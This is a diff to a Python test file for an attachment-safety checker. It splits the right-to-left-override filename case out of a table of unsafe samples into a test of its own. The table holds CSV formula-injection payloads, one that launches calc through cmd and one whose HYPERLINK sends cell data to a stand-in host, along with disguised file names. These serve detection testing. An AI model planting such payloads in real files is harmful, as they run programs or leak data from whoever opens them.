@@ -181,7 +181,6 @@ UNSAFE = {
     "a web page named svg": ("a.svg", b"<html><svg></svg></html>"),
     "a CSV that starts a program": ("a.csv", "姓名\n=cmd|' /C calc'!A0\n".encode()),
     "a CSV that calls a server": ("a.csv", '姓名\n"=HYPERLINK(""https://e.example/""&A1)"\n'.encode()),
-    "a name that reads backwards": ("a\u202efdp.txt", "正文".encode()),
     "a program's ending within": ("a.exe.txt", "正文".encode()),
 }  # fmt: skip
 
@@ -189,6 +188,11 @@ UNSAFE = {
 @pytest.mark.parametrize(("file", "data"), UNSAFE.values(), ids=UNSAFE.keys())
 def test_an_unsafe_attachment_is_found_where_it_is_named(file: str, data: bytes, tmp_path: Path) -> None:
     assert found(tmp_path, file, data) == [(GUIDE, FIELD, "GK505")]
+
+
+def test_a_name_that_reads_backwards_is_found_where_it_is_written(tmp_path: Path) -> None:
+    there = found(tmp_path, "a\u202efdp.txt", "正文".encode())
+    assert there == [(GUIDE, FIELD, "GK001"), (GUIDE, FIELD, "GK505")]
 
 
 FINE = {
